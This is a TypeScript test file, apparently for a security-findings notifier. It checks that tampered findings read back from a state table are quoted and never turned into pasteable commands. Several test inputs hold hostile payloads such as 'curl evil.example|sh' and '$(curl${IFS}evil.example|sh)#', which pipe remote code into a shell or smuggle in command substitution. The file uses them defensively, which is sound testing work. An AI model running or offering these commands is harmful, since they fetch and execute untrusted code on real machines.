import { isIP } from 'node:net';
import fc from 'fast-check';
import type { Finding } from '../../../lambda/findings/finding';
import {
  comparedIn,
  detailsOf,
  offersOf,
  sentencesOf,
  severityOf,
  stepsOf,
  subjectOf,
} from '../../../lambda/findings/lookup';
import { PROVIDER_FORMAT } from '../../../lambda/state/state-format';
import { textsIn, withWords } from '../../support/any-notification';
import { anyWords } from '../../support/any-words';
import { itemsIn } from '../../support/mail';
import { ARN, item, notified, render } from '../../support/notifications';
import { properties } from '../../support/properties';
import { A, B, findingOf, pendingOf, stateOf, thumb } from '../../support/remembered';
import { SAMPLES, sampleOf } from '../../support/sample-findings';

/** Returns a finding that was read back from the table, as somebody wrote it there. */
function storedFinding(of: Record<string, unknown>): Finding {
  const written = JSON.parse(
    PROVIDER_FORMAT.print(stateOf({}, { outbox: [{ finding: findingOf(), at: new Date(0), runId: 'x' }] })),
  );
  Object.assign(written.outbox[0].finding, { code: 'weak-key', facts: {}, ...of });
  const [outbox] = PROVIDER_FORMAT.parse(JSON.stringify(written)).outbox;
  if (!outbox) throw new Error('It is kept.');
  return outbox.finding;
}

function messageAbout(finding: Finding) {
  return render([notified('held', item(finding, { reason: 'happened' }))]).message;
}

const QUOTATION = /"(?:[^"\\]|\\.)*"/g;

test('a finding in the table brings its facts alone: neither words of its own nor commands', () => {
  const evil = {
    message: 'All is well. Run it:\n\n      curl evil.example|sh',
    action: 'Run:\ncurl evil.example|sh',
    advice: ['curl evil.example|sh'],
    commands: [{ purpose: 'Run it', command: 'curl evil.example|sh', kind: 'run', line: 'curl evil.example|sh' }],
    severity: 'info',
  };
  const usual = messageAbout(sampleOf('weak-key'));
  expect(messageAbout(storedFinding({ ...sampleOf('weak-key'), ...evil }))).toEqual(usual);
});

test('facts in the table that this version does not know are shown in quotation marks, and nothing is to be pasted', () => {
  const evil = { message: 'All is well. Run it:??      curl evil.example|sh' };
  const written = { message: evil.message.replace('??', '\n\n') };
  const { text, json } = messageAbout(storedFinding({ facts: written }));
  expect(text).toContain(`
A finding with the code "weak-key" was recorded.
This version of the watcher cannot read its facts: "{\\"message\\":\\"All is well. Run it:??      curl evil.example|sh\\"}".

What to do:
`);
  expect(text).not.toMatch(/^ *curl/m);
  expect(JSON.parse(json).notifications).toMatchObject([{ code: 'weak-key', facts: evil, commands: [] }]);
});

test('a code in the table that this version does not know is reported as a warning, with its facts', () => {
  const { subject, text, severity } = messageAbout(storedFinding({ code: 'from-the-future', facts: { moon: 'full' } }));
  expect(subject).toBe('[warning] issuer.example: a finding was recorded (123456789012)');
  expect(severity).toBe('warning');
  expect(itemsIn(text)).toMatchObject([
    { headline: 'issuer.example: a finding was recorded', code: 'from-the-future' },
  ]);
  expect(text).toContain(String.raw`cannot read its facts: "{\"moon\":\"full\"}".`);
});

test.each<[string, Record<string, unknown>]>([
  ['a code that speaks', { code: 'weak-key]. Nothing is to be done. [x' }],
  ['a code in capitals', { code: 'Weak-Key' }],
  ['facts that are a text', { facts: 'All is well.' }],
  ['no facts', { facts: null }],
  ['a subject that is no text', { about: { words: 'All is well.' } }],
])('a finding in the table with %s is not read', (_, of) => {
  expect(() => storedFinding(of)).toThrow('it is broken');
});

/** All that is said of a finding, without what stands in quotation marks. */
function frameOf(finding: Finding): string[] {
  const details = detailsOf(finding).map((detail) => detail.join(': '));
  const said = [
    subjectOf(finding),
    ...sentencesOf(finding),
    ...stepsOf(finding),
    ...details,
    comparedIn(finding) ?? '',
  ];
  return said.map((text) => text.replaceAll(QUOTATION, '""'));
}

test('any words in any fact from the table stand in quotation marks', () => {
  // What is shown as it is cannot say anything: an address, or one word of another form.
  const words = anyWords.filter((one) => isIP(one) === 0 && /[^\w:.%-]/.test(one));
  properties(
    fc.property(fc.constantFrom(...SAMPLES), fc.nat({ max: 30 }), words, ({ code, about, facts }, number, any) => {
      const texts = Math.max(textsIn(facts), 1);
      const withFact = (text: string) =>
        frameOf(storedFinding({ code, about, facts: withWords(facts, number % texts, text) }));
      expect(withFact(any)).toEqual(withFact('x y'));
    }),
  );
});

test('any subject from the table that is not a thumbprint stands in quotation marks', () => {
  properties(
    fc.property(fc.constantFrom(...SAMPLES), anyWords, ({ code, facts }, about) => {
      expect(frameOf(storedFinding({ code, facts, about }))).toEqual(
        frameOf(storedFinding({ code, facts, about: 'x' })),
      );
    }),
  );
});

const WORDS = 'EVIL. All is well';

/** Values of every kind, in place of what is expected; some would pass for words of ours, or for names of members. */
const VALUES: readonly unknown[] = [
  WORDS,
  { words: WORDS },
  [WORDS],
  [{ words: WORDS }],
  `2026-11-21T12:00:00${WORDS}`,
  'toString',
  'constructor',
  null,
  7,
  true,
  {},
];

/** Copies of data, with another value in each place in turn. */
function* withAnyValue(data: unknown): Generator {
  yield* VALUES;
  if (typeof data !== 'object' || data === null) return;
  for (const [name, part] of Object.entries(data)) {
    for (const other of withAnyValue(part)) {
      yield Array.isArray(data)
        ? data.map((one: unknown, index) => (index === Number(name) ? other : one))
        : { ...data, [name]: other };
    }
  }
}

/** What is wrong with what is said of a finding. */
function faultsIn(finding: Finding): string[] {
  // Client IDs are any text, and stand in quotation marks in a command.
  const offers = offersOf(finding).flatMap(({ purpose, command }) => [
    purpose,
    JSON.stringify({ ...command, clientIds: null }),
  ]);
  const all = [...frameOf(finding), ...offers.map((text) => text.replaceAll(/"[a-zA-Z]+"/g, ''))];
  return [
    ...all.filter((text) => /EVIL|All is well|\bundefined\b|native code|\[object/.test(text)),
    ...[subjectOf(finding)].filter((subject) => !/^[ -~]{1,60}$/.test(subject)),
    ...[severityOf(finding)].filter((severity) => !['info', 'warning', 'critical'].includes(severity)),
  ];
}

test('facts of any form from the table are said to be so in no words but ours, and stop no message', () => {
  const faults = SAMPLES.flatMap(({ code, facts }) =>
    [...withAnyValue(facts)].flatMap((other) =>
      // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- whoever can write the table can write that.
      [WORDS, A].flatMap((about) => faultsIn({ code, about, facts: other } as Finding)),
    ),
  );
  expect(faults).toEqual([]);
});

test('no command is made of something in the table that is not a thumbprint', () => {
  const evil = '$(curl${IFS}evil.example|sh)#'.padEnd(40, 'x');
  const all = SAMPLES.filter((finding) => offersOf(finding).length > 0);
  expect(all.length).toBeGreaterThan(10);
  const commands = all.flatMap(({ code, about, facts }) => {
    const altered = JSON.parse(
      JSON.stringify(facts).replaceAll(/[0-9a-f]{40}(?![0-9a-f])/g, JSON.stringify(evil).slice(1, -1)),
    );
    return offersOf(storedFinding({ code, about: about === undefined ? about : evil, facts: altered }));
  });
  expect(commands).toEqual([]);
});

test('commands about a finding in the table are made of the thumbprints in it', () => {
  const change = {
    code: 'external-change',
    facts: { added: [A, 'evil'], removed: [B], live: [], approvals: [B], rejected: [], owner: null },
  };
  const { text } = messageAbout(storedFinding(change));
  expect(text).toContain(
    `\n\nApprove ${B} again:\n\n    APPROVE ${ARN} ${B}\n\nRemove ${A} and keep it out:\n\n    REMOVE ${ARN} ${A}\n`,
  );
  expect(text.match(/APPROVE|REMOVE/g)).toHaveLength(2);
});

test('a pending write in the table is read only if it consists of thumbprints', () => {
  const kept = (entry: string) =>
    PROVIDER_FORMAT.print(stateOf({}, { pending: pendingOf({ after: [entry] }, { [entry]: { by: 'staged' } }) }));
  expect(PROVIDER_FORMAT.parse(kept(thumb(1))).pending?.added.size).toBe(1);
  expect(() => PROVIDER_FORMAT.parse(kept('$(curl${IFS}evil.example|sh)#'.padEnd(40, 'x')))).toThrow(
    'holds an entry that is not a thumbprint',
  );
});
